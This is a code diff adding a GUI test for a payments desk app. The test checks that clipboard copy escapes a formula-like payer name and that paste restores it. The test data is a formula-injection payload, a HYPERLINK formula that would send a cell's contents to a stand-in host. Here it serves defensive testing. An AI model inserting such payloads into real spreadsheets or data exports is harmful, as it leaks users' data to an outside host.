@@ -282,3 +282,27 @@ def test_detail_dialog_edits_fields_and_instalments_as_undoable_steps(page, monk
     assert page.ctx.ws.lists.instalments(debt_id) == []
     page.controller.undo_stack.undo()  # the name
     assert stored(page, 0).debtor_name == "ROSSI MARIO 0"
+
+
+def test_a_formula_like_name_is_copied_as_text_and_pasted_back_unchanged(page, qtbot):
+    """A payer named like a formula reaches Excel as text (apostrophe), and comes back here as it was."""
+    from PySide6.QtCore import QItemSelection, QItemSelectionModel
+
+    from mypay_desk.ui.lists.clipboard import parse_tsv, to_tsv
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1;"clic")'
+    page.controller.paste([[hostile]], 0, page.model.column_index("debtor_name"), [])
+    qtbot.waitUntil(lambda: stored(page, 0).debtor_name == hostile, timeout=3000)
+    view = page.view
+    a = cell(page, 0, "debtor_name")
+    view.selectionModel().select(QItemSelection(a, a), QItemSelectionModel.SelectionFlag.ClearAndSelect)
+    view.copy_selection()
+    copied = QGuiApplication.clipboard().text()
+    assert copied.startswith("'=HYPERLINK") or copied.startswith("\"'=HYPERLINK")
+    view.setCurrentIndex(cell(page, 2, "debtor_name"))
+    view.selectionModel().select(cell(page, 2, "debtor_name"), QItemSelectionModel.SelectionFlag.ClearAndSelect)
+    view.paste()
+    qtbot.waitUntil(lambda: stored(page, 2).debtor_name == hostile, timeout=3000)
+    # plain numbers and texts are copied as they are
+    assert to_tsv([["-12,50", "ROSSI", "+39 02 1234"]]) == "-12,50\tROSSI\t'+39 02 1234\r\n"
+    assert parse_tsv("'-12\t'=1+1\t'abc\r\n") == [["'-12", "=1+1", "'abc"]]
